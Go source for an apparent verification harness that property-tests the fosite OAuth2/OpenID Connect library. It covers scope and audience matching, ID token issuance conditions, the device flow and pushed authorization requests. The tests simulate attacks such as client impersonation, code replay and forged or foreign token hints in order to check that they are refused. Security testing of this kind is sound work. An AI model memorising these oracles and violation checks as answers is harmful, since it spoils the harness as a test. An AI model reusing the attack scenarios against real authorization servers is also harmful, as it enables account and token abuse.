		if !segOK(m[k], n[k]) {
			return No
		}
	}
	if m[len(m)-1] != "*" {
		return No
	}
	if n[len(m)-1] == "" {
		return No // a wildcard never matches an empty segment
	}
	for k := len(m); k < len(n); k++ {
		if n[k] == "" {
			return Unspecified
		}
	}
	return Yes
}

// RefHierarchicOne: README "fosite.HierarchicScopeStrategy": a scope covers
// itself and every dotted child.
func RefHierarchicOne(parent, needle string) Tri {
	return tri(parent == needle || strings.HasPrefix(needle, parent+"."))
}

func RefExactOne(a, needle string) Tri { return tri(a == needle) }

// RefScope lifts a one-entry matcher to a haystack: Yes if any entry says Yes,
// Unspecified if none says Yes but one is Unspecified.
func RefScope(one func(string, string) Tri, haystack []string, needle string) Tri {
	r := No
	for _, h := range haystack {
		switch one(h, needle) {
		case Yes:
			return Yes
		case Unspecified:
			r = Unspecified
		}
	}
	return r
}

func RefScopeByName(strategy string) func(string, string) Tri {
	switch strategy {
	case "hierarchic":
		return RefHierarchicOne
	case "exact":
		return RefExactOne
	}
	return RefWildcardOne
}

// AudURL is an audience URL known by its components (the generator builds the
// string, the spec never parses it).
type AudURL struct {
	Scheme string
	Host   string // host[:port]
	Path   string // "", "/", "/a", "/a/", "/a/b" ... plain characters only
}

func (u AudURL) String() string { return u.Scheme + "://" + u.Host + u.Path }

// RefAudienceOne: C12 statement "audience URLs match on scheme, host and path
// prefix at segment boundaries" (a registered trailing slash is insignificant).
// Unspecified: scheme or host differing only in letter case.
func RefAudienceOne(reg, req AudURL) Tri {
	if reg.Scheme != req.Scheme {
		if strings.EqualFold(reg.Scheme, req.Scheme) {
			return Unspecified
		}
		return No
	}
	if reg.Host != req.Host {
		if strings.EqualFold(reg.Host, req.Host) {
			return Unspecified
		}
		return No
	}
	allowed := strings.TrimRight(reg.Path, "/")
	return tri(req.Path == reg.Path || req.Path == allowed || strings.HasPrefix(req.Path, allowed+"/"))
}

// RefAudience: every requested audience must be covered by some registered one.
func RefAudience(reg []AudURL, req []AudURL) Tri {
	res := Yes
	for _, n := range req {
		one := No
		for _, h := range reg {
			switch RefAudienceOne(h, n) {
			case Yes:
				one = Yes
			case Unspecified:
				if one == No {
					one = Unspecified
				}
			}
			if one == Yes {
				break
			}
		}
		if one == No {
			return No
		}
		if one == Unspecified {
			res = Unspecified
		}
	}
	return res
}

// LeftHalfHash: OIDC core 3.1.3.6 / 3.3.2.11: base64url of the left half of
// the hash named by the ID token's alg.
func LeftHalfHash(alg, value string) string {
	var hf hash.Hash
	switch {
	case strings.HasSuffix(alg, "384"):
		hf = sha512.New384()
	case strings.HasSuffix(alg, "512"):
		hf = sha512.New()
	default:
		hf = sha256.New()
	}
	hf.Write([]byte(value))
	s := hf.Sum(nil)
	return base64.RawURLEncoding.EncodeToString(s[:len(s)/2])
}

// PKCES256 is the S256 transformation of RFC 7636.
func PKCES256(verifier string) string {
	s := sha256.Sum256([]byte(verifier))
	return base64.RawURLEncoding.EncodeToString(s[:])
}

// VerifierWellFormed: RFC 7636 4.1: 43-128 unreserved characters.
func VerifierWellFormed(v string) bool {
	if len(v) < 43 || len(v) > 128 {
		return false
	}
	for i := 0; i < len(v); i++ {
		c := v[i]
		ok := (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' || c == '~'
		if !ok {
			return false
		}
	}
	return true
}
