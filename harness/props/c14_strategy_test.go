package props

import (
	"context"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"github.com/ory/fosite/handler/openid"
	"github.com/ory/fosite/token/jwt"
	"pgregory.net/rapid"

	"verifharness/h"
)

// TestC14_Strategy addresses the ID token strategy itself (openid.DefaultStrategy.GenerateIDToken), the last line
// between a request's max_age / prompt / id_token_hint and the ID token: the authorization endpoint's validator shields
// it in the provider-level flows, integrators that mint ID tokens for flows of their own (and the device flow, whose
// OpenID Connect request the integrator stores) reach it directly. Oracle, from the statement: "a max_age,
// prompt=none/login or id_token_hint the session does not satisfy makes issuance fail" — for every request that is not a
// refresh; an expired hint is still a hint.
func TestC14_Strategy(t *testing.T) {
	h.SetProperty("C14")
	selfTest(t)
	keys := idKeys()
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		k := keys[rapid.IntRange(0, len(keys)-1).Draw(rt, "key")]
		cfg := &fosite.Config{IDTokenIssuer: h.Issuer}
		signer := &jwt.DefaultSigner{GetPrivateKey: func(context.Context) (interface{}, error) { return k.key, nil }}
		strat := &openid.DefaultStrategy{Signer: signer, Config: cfg}

		subject := rapid.SampledFrom([]string{"alice", "alice", "Alice", "bob"}).Draw(rt, "subject")
		authRel := rapid.SampledFrom([]string{"equal", "before-1h", "before-10s", "after-2s"}).Draw(rt, "auth")
		rat := h.Now().Add(-time.Minute)
		auth := map[string]time.Time{"equal": rat, "before-1h": rat.Add(-time.Hour), "before-10s": rat.Add(-10 * time.Second), "after-2s": rat.Add(2 * time.Second)}[authRel]
		maxAge := rapid.SampledFrom([]string{"", "", "1", "5", "3600", "86400"}).Draw(rt, "max_age")
		prompt := rapid.SampledFrom([]string{"", "", "none", "login", "consent"}).Draw(rt, "prompt")
		hintKind := rapid.SampledFrom([]string{"", "own", "other-subject", "expired-own", "expired-other-subject", "case-variant", "expired-case-variant", "garbage", "other-key"}).Draw(rt, "id_token_hint")
		grant := rapid.SampledFrom([]string{"", "authorization_code", "urn:ietf:params:oauth:grant-type:device_code", "refresh_token"}).Draw(rt, "grant_type")

		mkHint := func(sub string, exp time.Time, key interface{}, alg string) string {
			return h.MustSignJWT(key, alg, "", map[string]interface{}{"sub": sub, "iss": h.Issuer, "aud": []string{"c14"}, "exp": exp.Unix(), "iat": h.Now().Add(-2 * time.Hour).Unix()})
		}
		rawKey := func() (interface{}, string) {
			// the hints are minted with the server's own key material
			switch kk := k.key.(type) {
			case *jose.JSONWebKey:
				return kk.Key, k.alg
			default:
				return kk, k.alg
			}
		}
		hk, halg := rawKey()
		other := "someone-else"
		variant := strings.ToUpper(subject[:1]) + subject[1:]
		if variant == subject {
			variant = strings.ToLower(subject)
		}
		hint := ""
		switch hintKind {
		case "own":
			hint = mkHint(subject, h.Now().Add(time.Hour), hk, halg)
		case "other-subject":
			hint = mkHint(other, h.Now().Add(time.Hour), hk, halg)
		case "expired-own":
			hint = mkHint(subject, h.Now().Add(-time.Hour), hk, halg)
		case "expired-other-subject":
			hint = mkHint(other, h.Now().Add(-time.Hour), hk, halg)
		case "case-variant":
			hint = mkHint(variant, h.Now().Add(time.Hour), hk, halg)
		case "expired-case-variant":
			hint = mkHint(variant, h.Now().Add(-time.Hour), hk, halg)
		case "garbage":
			hint = "abc.def.ghi"
		case "other-key":
			hint = mkHint(subject, h.Now().Add(time.Hour), h.RSAKey(2), "RS256")
		}

		form := url.Values{}
		if grant != "" {
			form.Set("grant_type", grant)
		}
		if maxAge != "" {
			form.Set("max_age", maxAge)
		}
		if prompt != "" {
			form.Set("prompt", prompt)
		}
		if hint != "" {
			form.Set("id_token_hint", hint)
		}
		req := fosite.NewAccessRequest(&openid.DefaultSession{
			Claims:  &jwt.IDTokenClaims{Subject: subject, AuthTime: auth, RequestedAt: rat},
			Headers: &jwt.Headers{},
		})
		req.Client = &fosite.DefaultClient{ID: "c14"}
		req.Form = form

		var blockers []string
		if grant != "refresh_token" {
			if maxAge != "" {
				var n int64
				fmt.Sscan(maxAge, &n)
				if auth.Add(time.Duration(n) * time.Second).Before(rat) {
					blockers = append(blockers, "max_age not satisfied")
				}
			}
			if prompt == "none" && auth.After(rat) {
				blockers = append(blockers, "prompt=none but the user authenticated during the request")
			}
			if prompt == "login" && auth.Before(rat) {
				blockers = append(blockers, "prompt=login but the user was not re-authenticated")
			}
			switch hintKind {
			case "other-subject", "expired-other-subject", "case-variant", "expired-case-variant":
				blockers = append(blockers, "id_token_hint names another subject")
			case "garbage", "other-key":
				blockers = append(blockers, "id_token_hint is not an ID token of this server")
			}
		}

		tok, err := strat.GenerateIDToken(context.Background(), time.Hour, req)
		desc := fmt.Sprintf("key=%s grant_type=%q subject=%q auth=%s max_age=%q prompt=%q hint=%s blockers=%v -> err=%v token=%v", k.name, grant, subject, authRel, maxAge, prompt, hintKind, blockers, err, tok != "")
		if len(blockers) > 0 && err == nil {
			h.Violate(rt, "C14/strategy/issued-despite-unmet-condition", "GenerateIDToken issued an ID token although: %v\n--- case ---\n%s", blockers, desc)
		}
		if err == nil {
			_, claims, verr := h.VerifyJWT(tok, k.pub)
			if verr != nil {
				h.Violate(rt, "C14/strategy/signature", "ID token does not verify under the server's key: %v\n--- case ---\n%s", verr, desc)
			} else if s, _ := claims["sub"].(string); s != subject {
				h.Violate(rt, "C14/strategy/subject", "ID token subject %q, session subject %q\n--- case ---\n%s", s, subject, desc)
			}
		}
		h.Case(fmt.Sprintf("C14s/%s/%s/%s/%s/%s/%s/%s", k.name, grant, subject, authRel, maxAge, prompt, hintKind), len(blockers) == 1 || err == nil, func() any {
			return map[string]any{"case": desc}
		})
		if len(blockers) == 1 {
			h.Label("strategy-single-blocker:" + blockers[0])
		}
		if err == nil {
			h.Label("strategy-issued")
		}
	})
	h.MarkCompleted()
}
