package props

import (
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/ory/fosite"
	"pgregory.net/rapid"

	"verifharness/h"
)

const deviceGrant = "urn:ietf:params:oauth:grant-type:device_code"

// ---------------------------------------------------------------- device flow

func (e *Eng) actDeviceAuth() {
	t := e.t
	client := pick(t, e.clients, "client")
	scopes := e.drawScopes(false, "scope")
	form := url.Values{"client_id": {client}}
	if len(scopes) > 0 {
		form.Set("scope", strings.Join(scopes, " "))
	}
	e.w.ResetCalls()
	e.w.Record = true
	res := e.w.DeviceAuth(form, e.auth(client), h.Consent{})
	e.w.Record = false
	for _, c := range e.w.Calls {
		if res.DeviceCode == "" {
			break
		}
		for _, k := range []string{c.Key, c.Key2} {
			if k != "" && (k == res.DeviceCode || k == res.UserCode || strings.Contains(k, res.UserCode) || strings.Contains(res.DeviceCode, k) && len(k) > 50) {
				e.viol("C16/code-stored-in-cleartext", "%s was called with key %q for device code %q / user code %q", c.Method, k, res.DeviceCode, res.UserCode)
			}
		}
	}
	if res.UserCode != "" {
		// defaults: 8 upper-case letters
		wantLen, alphabet := e.w.Cfg.UserCodeLength, string(e.w.Cfg.UserCodeSymbols)
		if wantLen == 0 {
			wantLen = 8
		}
		if alphabet == "" {
			alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
		}
		if len([]rune(res.UserCode)) != wantLen {
			e.viol("C16/user-code-shape", "user code %q has %d symbols, configured length %d", res.UserCode, len([]rune(res.UserCode)), wantLen)
		}
		for _, r := range res.UserCode {
			if !strings.ContainsRune(alphabet, r) {
				e.viol("C16/user-code-shape", "user code %q contains %q which is not in the configured alphabet %q", res.UserCode, r, alphabet)
			}
		}
	}
	e.step("deviceAuth")
	if !res.Err.OK() || res.DeviceCode == "" {
		e.logf("deviceAuth client=%s -> %v (not asserted)", client, res.Err)
		e.label("deviceAuth-refused")
		return
	}
	g := e.newGrant(client, "device", nil, nil, "")
	g.Extra["requested"] = strings.Join(scopes, " ")
	d := e.addCred(g, "device", res.DeviceCode, "authz", 0, time.Duration(res.ExpiresIn)*time.Second)
	d.UserCode = res.UserCode
	// distinctness / shape of the codes (C16)
	for _, o := range e.pool("device") {
		if o != d && (o.Val == d.Val || o.UserCode == d.UserCode) {
			e.viol("C16/codes-repeat", "device/user code repeated: %q/%q", d.Val, d.UserCode)
		}
	}
	if diff := res.ExpiresIn - int64(e.devLife/time.Second); diff > 1 || diff < -1 {
		e.viol("C07/device-expires_in-mismatch", "device authorization advertised expires_in=%d, configured lifetime %v", res.ExpiresIn, e.devLife)
	}
	e.label("flow=device")
	e.logf("deviceAuth client=%s scopes=%q -> g%d expires_in=%d", client, scopes, g.N, res.ExpiresIn)
}

func (e *Eng) actDeviceDecide() {
	t := e.t
	var pool []*Cred
	for _, c := range e.pool("device") {
		if c.Decision == "" {
			pool = append(pool, c)
		}
	}
	if len(pool) == 0 {
		t.Skip("no undecided device code")
	}
	d := pick(t, pool, "device")
	accept := rapid.IntRange(0, 3).Draw(t, "accept") != 0
	requested := strings.Fields(d.G.Extra["requested"])
	granted := append([]string{}, requested...)
	if len(granted) > 1 && rapid.IntRange(0, 3).Draw(t, "partial") == 0 {
		for i, s := range granted {
			if s != "openid" {
				granted = append(granted[:i:i], granted[i+1:]...)
				break
			}
		}
	}
	subject := fmt.Sprintf("user-%d", d.G.N)
	// one integrator in three installs a session of its own without the expiry instants of the device endpoint
	fresh := rapid.IntRange(0, 2).Draw(t, "freshSession") == 0
	ok := e.w.DeviceDecide(d.UserCode, accept, h.Consent{Session: e.sessFor(subject), Scopes: append([]string{}, granted...), FreshSession: fresh})
	e.step(fmt.Sprintf("deviceDecide:%v", accept))
	if fresh && accept {
		h.Label("device-session-without-expiry")
	}
	exp := e.timeExpired(d)
	e.logf("deviceDecide %v accept=%v granted=%q -> found=%v (expiry state %v)", d, accept, granted, ok, exp)
	if !ok {
		if exp == Active {
			e.viol("C16/live-user-code-unknown", "user code of %v not found / refused by the integrator lookup before its expiry", d)
		}
		return
	}
	if exp == Inactive {
		e.viol("C07/expired-user-code-honoured", "user code of %v accepted a decision after its expiry %v (now %v)", d, d.Expiry, h.Now())
	}
	if accept {
		d.Decision = "accept"
		d.G.Scopes = granted
		d.G.Subject = subject
	} else {
		d.Decision = "reject"
	}
	e.label("device-decision=" + d.Decision)
}

func (e *Eng) actDevicePoll() {
	t := e.t
	d := e.pickCred("device", "device")
	if d == nil {
		t.Skip("no device code")
	}
	g := d.G
	presenter := g.Client
	var reasons []string
	if rapid.IntRange(0, 9).Draw(t, "presenter") < 2 {
		presenter = otherClient(t, e.clients, g.Client, "foreign")
		reasons = append(reasons, "foreign")
	}
	if d.Consumed {
		reasons = append(reasons, "used")
	} else {
		switch d.Decision {
		case "":
			reasons = append(reasons, "pending")
		case "reject":
			reasons = append(reasons, "denied")
		}
	}
	switch e.timeExpired(d) {
	case Inactive:
		reasons = append(reasons, "expired")
	case Unspec:
		reasons = append(reasons, "unspecified")
	}
	form := url.Values{"grant_type": {deviceGrant}, "device_code": {d.Val}}
	reqForm, auth := e.form(presenter, form), e.auth(presenter)
	if presenter == "P" && presenter != g.Client && rapid.Bool().Draw(t, "publicViaBasicNamingVictimInBody") {
		auth = h.Auth{RawHeader: "Basic " + base64.StdEncoding.EncodeToString([]byte("P:"))}
		reqForm.Set("client_id", g.Client)
		e.label("poll-public-basic-with-victim-client_id")
	}
	// now and then the store fails to revoke the access tokens while a replay is being answered: what can still be
	// revoked (the refresh token, a separate store operation) is revoked all the same
	revokeFailed := false
	if d.Consumed && e.w.Tx != nil && e.cfg.Prop == "C16" && rapid.IntRange(0, 4).Draw(t, "accessTokenRevocationFails") == 0 {
		e.w.W.Before = func(c *h.Call) error {
			if c.Method == "RevokeAccessToken" {
				revokeFailed = true
				return errors.New("connection reset by peer")
			}
			return nil
		}
	}
	tr := e.w.Token(reqForm, auth, h.TokenOpts{})
	e.w.W.Before = nil
	e.step("devicePoll:" + strings.Join(reasons, "+"))
	e.logf("devicePoll %v by=%s reasons=%v -> %v", d, presenter, reasons, tr.Err)
	has := func(x string) bool {
		for _, y := range reasons {
			if y == x {
				return true
			}
		}
		return false
	}
	issued := tr.Access != "" || tr.Refresh != "" || tr.IDToken != ""
	if has("unspecified") {
		if tr.OK() && !has("foreign") && !has("used") && !has("pending") && !has("denied") {
			d.Consumed = true
			e.registerTokens(g, tr, 0, "device")
		} else if issued {
			e.viol("C16/tokens-without-approval", "%v yielded tokens with reasons %v", d, reasons)
		}
		if has("used") {
			// a replay inside the expiry margin may or may not revoke the tokens issued from the code
			e.unspecFamily(g, "device-replay-inside-expiry-margin")
		}
		e.invariant("")
		return
	}
	if len(reasons) == 0 {
		if !tr.OK() {
			e.viol("C16/approved-device-code-refused", "%v approved, unexpired, polled by its client: refused %v %s", d, tr.Err, tr.Err.Hint)
			e.invariant("")
			return
		}
		d.Consumed = true
		d.Exp = Inactive
		e.registerTokens(g, tr, 0, "device")
		e.label("device-poll-ok")
		e.invariant("")
		return
	}
	if issued || tr.Err.OK() {
		switch {
		case has("used"):
			e.viol("C16/device-code-used-twice", "%v yielded tokens a second time", d)
		case has("pending"), has("denied"):
			e.viol("C16/tokens-without-approval", "%v yielded tokens while %v", d, reasons)
		case has("foreign"):
			e.viol("C16/foreign-client-polled", "%v of client %s yielded tokens to client %s", d, g.Client, presenter)
		case has("expired"):
			e.viol("C16/expired-device-code-honoured", "%v expired at %v yielded tokens at %v", d, d.Expiry, h.Now())
			e.viol("C07/expired-device-code-honoured", "%v expired at %v yielded tokens at %v", d, d.Expiry, h.Now())
		}
		if tr.OK() {
			d.Consumed = true
			e.registerTokens(g, tr, 0, "device")
		}
		e.invariant("")
		return
	}
	d.Fails++
	e.label("device-refused:" + strings.Join(reasons, "+"))
	if len(reasons) == 1 {
		want := map[string]string{"pending": "authorization_pending", "denied": "access_denied", "expired": "expired_token", "foreign": "invalid_grant"}[reasons[0]]
		if want != "" && tr.Err.Name != want {
			e.viol("C16/wrong-error-class", "%v polled with sole refusal reason %q answered %v, want %s", d, reasons[0], tr.Err, want)
		}
	}
	if has("used") {
		e.label("device-replay")
		// "where the store reports it as already used the tokens issued from it are revoked": whoever presents it,
		// and whether or not its own lifetime has passed meanwhile
		onlyUsedAndExpired := len(reasons) == 1 || (len(reasons) == 2 && (has("expired") || has("foreign")))
		if e.w.Tx != nil && onlyUsedAndExpired && revokeFailed {
			e.label("device-replay-with-failing-access-token-revocation")
			for _, c := range g.Creds {
				switch {
				case c.Kind == "refresh" && c.Origin == "token":
					e.setInactive(c, "C16/replay-did-not-revoke-tokens")
				case c.Kind == "access" || c.Kind == "refresh":
					e.setUnspec(c, "device-replay-with-failing-access-token-revocation")
				}
			}
		} else if e.w.Tx != nil && onlyUsedAndExpired {
			// the contract-following store reports the code as already used: its tokens are revoked
			e.killFamily(g, "C16/replay-did-not-revoke-tokens")
		} else {
			// revoking is allowed, not required (overlapping refusal reasons, or a store that no longer knows the code)
			e.unspecFamily(g, "device-replay-with-overlapping-reasons")
		}
		e.invariant("C16/replay-affected-other-grant", g)
		return
	}
	e.invariant("C16/refused-poll-changed-state")
}

// ---------------------------------------------------------------- PAR

func (e *Eng) actPARPush() {
	t := e.t
	client := pick(t, []string{"A", "B"}, "client")
	scopes := e.drawScopes(false, "scope")
	state := "pushed-state-" + rapid.StringMatching("[a-z]{6}").Draw(t, "state")
	form := url.Values{"client_id": {client}, "response_type": {"code"}, "state": {state}, "redirect_uri": {redirectURI}, "nonce": {"nonce-0123456789"}}
	if len(scopes) > 0 {
		form.Set("scope", strings.Join(scopes, " "))
	}
	if !fosite.Arguments(scopes).Has("openid") && rapid.IntRange(0, 2).Draw(t, "omitRedirect") == 0 {
		// the client has exactly one registered redirect URI: it may be omitted from the push
		form.Del("redirect_uri")
		e.label("par-push-without-redirect_uri")
	}
	pushedRedirect := form.Get("redirect_uri") != ""
	// the push may fix the response mode (client A is registered for explicit modes; B's push is then refused)
	pushedMode := rapid.SampledFrom([]string{"", "", "", "query", "fragment", "form_post"}).Draw(t, "pushedResponseMode")
	if pushedMode != "" {
		form.Set("response_mode", pushedMode)
	}
	verifier := ""
	if rapid.Bool().Draw(t, "pushWithPKCE") {
		verifier = "pushed-verifier-" + strings.Repeat("p", 40)
		form.Set("code_challenge", h.PKCES256(verifier))
		form.Set("code_challenge_method", "S256")
	}
	pushCarriesRequestURI := rapid.IntRange(0, 7).Draw(t, "pushCarriesRequestURI") == 0
	if pushCarriesRequestURI {
		form.Set("request_uri", rapid.SampledFrom([]string{"urn:ietf:params:oauth:request_uri:abc", "https://rp.example/request.jwt", "x"}).Draw(t, "innerRequestURI"))
	}
	badAuth := rapid.IntRange(0, 7).Draw(t, "pushBadAuth") == 0
	auth := e.auth(client)
	if badAuth {
		auth.BasicPass = "not-the-secret"
	}
	// the caller may authenticate as one client and name another in the body: the request_uri, if one is handed out,
	// belongs to the client that authenticated
	if !badAuth && !pushCarriesRequestURI && rapid.IntRange(0, 9).Draw(t, "pushNamesOtherClient") == 0 {
		named := otherClient(t, []string{"A", "B"}, client, "namedInBody")
		form.Set("client_id", named)
		res := e.w.PAR(form, auth)
		e.step("parPush:names-other-client")
		e.label("par-push-names-other-client")
		if res.RequestURI != "" {
			ar := e.w.Authorize(url.Values{"client_id": {named}, "request_uri": {res.RequestURI}}, h.Consent{Session: e.w.Sess("user-x")})
			if ar.Code != "" {
				e.viol("C17/push-bound-to-client-named-in-body", "client %s authenticated at the push endpoint and named client %s in the body: the request_uri started an authorization for %s", client, named, named)
			}
		}
		return
	}
	res := e.w.PAR(form, auth)
	if pushCarriesRequestURI || badAuth {
		e.step("parPush:invalid")
		e.label("par-push-invalid")
		if res.RequestURI != "" || res.Err.OK() {
			if badAuth {
				e.viol("C17/push-without-client-authentication", "push with a wrong client secret was accepted")
			} else {
				e.viol("C17/push-containing-request_uri-accepted", "a push that itself contains request_uri=%q was accepted", form.Get("request_uri"))
			}
		}
		return
	}
	if res.RequestURI != "" {
		wantPrefix := e.w.Cfg.PushedAuthorizeRequestURIPrefix
		if wantPrefix == "" {
			wantPrefix = "urn:ietf:params:oauth:request_uri:"
		}
		if !strings.HasPrefix(res.RequestURI, wantPrefix) {
			e.viol("C17/request-uri-prefix", "request_uri %q does not carry the configured prefix %q", res.RequestURI, wantPrefix)
		}
	}
	e.step("parPush")
	if !res.Err.OK() || res.RequestURI == "" {
		e.logf("parPush client=%s -> %v (not asserted)", client, res.Err)
		e.label("par-push-refused")
		return
	}
	g := e.newGrant(client, "par", scopes, nil, "")
	g.Redirect = redirectURI
	g.Extra["state"] = state
	g.Extra["verifier"] = verifier
	g.Extra["mode"] = pushedMode
	if pushedMode != "" {
		e.label("par-push-with-response_mode")
	}
	if !pushedRedirect {
		g.Extra["redirect-not-pushed"] = "1"
	}
	p := e.addCred(g, "par", res.RequestURI, "authz", 0, time.Duration(res.ExpiresIn)*time.Second)
	for _, o := range e.pool("par") {
		if o != p && o.Val == p.Val {
			e.viol("C06/request-uri-repeats", "request_uri repeated: %q", p.Val)
		}
	}
	if diff := res.ExpiresIn - int64(e.parLife/time.Second); diff > 1 || diff < -1 {
		e.viol("C07/par-expires_in-mismatch", "PAR advertised expires_in=%d, configured lifetime %v", res.ExpiresIn, e.parLife)
	}
	e.label("par-push")
	e.logf("parPush client=%s scopes=%q state=%s -> g%d expires_in=%d", client, scopes, state, g.N, res.ExpiresIn)
}

func (e *Eng) actPARUse() {
	t := e.t
	p := e.pickCred("par", "par")
	if p == nil {
		t.Skip("no request_uri")
	}
	if rapid.IntRange(0, 7).Draw(t, "unknownURI") == 0 {
		// a request_uri nobody pushed: same prefix with an unknown or mutated reference, or a foreign prefix
		kind := rapid.SampledFrom([]string{"unknown-reference", "mutated", "foreign-prefix", "prefix-only", "foreign-prefix-plus-plain-parameters", "foreign-prefix-plus-plain-parameters"}).Draw(t, "unknownKind")
		prefix := e.w.Cfg.PushedAuthorizeRequestURIPrefix
		if prefix == "" {
			prefix = "urn:ietf:params:oauth:request_uri:"
		}
		uri := prefix + "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
		switch kind {
		case "mutated":
			uri = flipChar(p.Val, len(p.Val)-3)
		case "foreign-prefix":
			uri = "urn:example:other:" + strings.TrimPrefix(p.Val, prefix)
		case "prefix-only":
			uri = prefix
		}
		uq := url.Values{"client_id": {p.G.Client}, "request_uri": {uri}}
		if kind == "foreign-prefix-plus-plain-parameters" {
			// a complete plain authorization request that merely carries some request_uri without the PAR prefix
			uri = rapid.SampledFrom([]string{"https://rp.example/request.jwt", "urn:example:other:abc", "urn:ietf:params:oauth:request_uri:" + "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}).Draw(t, "foreignURI")
			if strings.HasPrefix(uri, prefix) {
				uri = "urn:example:other:abc"
			}
			uq = url.Values{"client_id": {p.G.Client}, "request_uri": {uri}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}}
			if !e.w.Cfg.IsPushedAuthorizeEnforced {
				// without enforcement this is an ordinary authorization request: nothing to assert
				e.step("parUse:" + kind + ":not-enforced")
				return
			}
		}
		res := e.w.Authorize(uq, h.Consent{Session: e.w.Sess("user-x")})
		e.step("parUse:" + kind)
		e.label("par-use-" + kind)
		e.logf("parUse unknown uri kind=%s -> %v code=%v", kind, res.Err, res.Code != "")
		if res.Code != "" || res.Access != "" || res.IDToken != "" {
			if kind == "foreign-prefix-plus-plain-parameters" {
				e.viol("C17/enforcement-ignored", "pushed authorization requests are enforced, but a plain authorization request carrying the non-PAR request_uri %q was accepted", uri)
			}
			e.viol("C17/unknown-request-uri-honoured", "an authorization was started with the never-pushed request_uri %q (%s)", uri, kind)
		}
		return
	}
	g := p.G
	presenter := g.Client
	var reasons []string
	if rapid.IntRange(0, 9).Draw(t, "presenter") < 2 {
		presenter = otherClient(t, []string{"A", "B"}, g.Client, "foreign")
		reasons = append(reasons, "foreign")
	}
	if p.Consumed {
		reasons = append(reasons, "used")
	} else if p.Exp == Unspec {
		reasons = append(reasons, "unspecified")
	}
	switch e.timeExpired(p) {
	case Inactive:
		reasons = append(reasons, "expired")
	case Unspec:
		reasons = append(reasons, "unspecified")
	}
	q := url.Values{"client_id": {presenter}, "request_uri": {p.Val}}
	conflict := rapid.IntRange(0, 2).Draw(t, "conflict") == 0
	if conflict {
		q.Set("state", "query-state-0123456789")
		q.Set("scope", "openid offline a b")
		q.Set("redirect_uri", "https://rp.example/cb2")
		q.Set("response_type", "token")
		q.Set("nonce", "query-nonce-0123456789")
		q.Set("code_challenge", h.PKCES256("query-verifier-"+strings.Repeat("q", 40)))
		q.Set("code_challenge_method", "S256")
		wantMode := g.Extra["mode"]
		if wantMode == "" {
			wantMode = "query"
		}
		for _, m := range []string{"fragment", "form_post", "query"} {
			if m != wantMode {
				q.Set("response_mode", m)
				break
			}
		}
		e.label("par-use-with-conflicting-query")
	}
	subject := fmt.Sprintf("user-%d", g.N)
	res := e.w.Authorize(q, h.Consent{Session: e.w.Sess(subject)})
	e.step("parUse:" + strings.Join(reasons, "+"))
	e.logf("parUse %v by=%s conflict=%v reasons=%v -> %v code=%v", p, presenter, conflict, reasons, res.Err, res.Code != "")
	has := func(x string) bool {
		for _, y := range reasons {
			if y == x {
				return true
			}
		}
		return false
	}
	started := res.Err.OK() && (res.Code != "" || res.Access != "" || res.IDToken != "")
	register := func() {
		p.Consumed = true
		p.Exp = Inactive
		if res.Code == "" {
			return
		}
		ng := e.newGrant(g.Client, "code", g.Scopes, nil, subject)
		ng.Redirect = redirectURI
		if g.Extra["redirect-not-pushed"] == "1" {
			// no redirect_uri was pushed (single registered URI): like a plain request without the parameter, the
			// code is bound to none
			ng.Redirect = ""
		}
		ng.Extra["verifier"] = g.Extra["verifier"]
		ng.Extra["par"] = "1"
		if conflict && g.Extra["redirect-not-pushed"] == "1" {
			// redirect_uri was not pushed: the response still goes to the single registered URI, but the form value
			// the query ADDED is what the code is bound to at the token endpoint
			ng.Redirect = "https://rp.example/cb2"
		}
		if conflict && g.Extra["verifier"] == "" {
			// nothing about PKCE was pushed: the query may ADD a challenge (keys that were not pushed are not
			// protected by the statement), and the code is then bound to it
			ng.Extra["verifier"] = "query-verifier-" + strings.Repeat("q", 40)
			ng.Extra["par"] = "query-added-pkce"
		}
		e.addCred(ng, "code", res.Code, "authz", 0, e.codeLife)
	}
	if has("unspecified") {
		if started && !has("foreign") && !has("used") {
			register()
		}
		return
	}
	if len(reasons) == 0 {
		if !started {
			e.viol("C17/valid-request-uri-refused", "%v used by its client before expiry was refused: %v %s", p, res.Err, res.Err.Hint)
			p.Exp = Unspec
			return
		}
		// authoritative: pushed values win over the query
		if res.State != g.Extra["state"] {
			e.viol("C17/pushed-value-overridden", "state: pushed %q, response carries %q", g.Extra["state"], res.State)
		}
		wantMode := g.Extra["mode"]
		if wantMode == "" {
			wantMode = "query" // the default of the code flow when the push named none
		}
		if res.Mode != wantMode {
			e.viol("C17/pushed-value-overridden", "response mode: pushed %q (code flow default: query), response delivered as %q", g.Extra["mode"], res.Mode)
		}
		target := res.Location
		if res.Mode == "form_post" {
			target = res.FormURL
		}
		if target != redirectURI && !strings.HasPrefix(target, redirectURI+"?") && !strings.HasPrefix(target, redirectURI+"#") {
			e.viol("C17/pushed-value-overridden", "redirect target: pushed %q, response went to %q", redirectURI, target)
		}
		if res.Code == "" || res.Access != "" {
			e.viol("C17/pushed-value-overridden", "response_type: pushed code, response has code=%v access_token=%v", res.Code != "", res.Access != "")
		}
		if !sameSet(res.Requested, g.Scopes) {
			e.viol("C17/pushed-value-overridden", "scope: pushed %q, authorization proceeded with %q", g.Scopes, res.Requested)
		}
		e.label("par-use-ok")
		register()
		return
	}
	if started {
		switch {
		case has("used"):
			e.viol("C17/request-uri-used-twice", "%v started a second authorization", p)
		case has("foreign"):
			e.viol("C17/foreign-client-used-request-uri", "%v pushed by %s started an authorization for %s", p, g.Client, presenter)
		case has("expired"):
			e.viol("C17/expired-request-uri-honoured", "%v expired at %v started an authorization at %v", p, p.Expiry, h.Now())
			e.viol("C07/expired-request-uri-honoured", "%v expired at %v started an authorization at %v", p, p.Expiry, h.Now())
		}
		if !has("foreign") {
			register()
		}
		return
	}
	e.label("par-refused:" + strings.Join(reasons, "+"))
	if has("foreign") && !p.Consumed {
		p.Exp = Unspec // the implementation burns it; the statement does not require that
	}
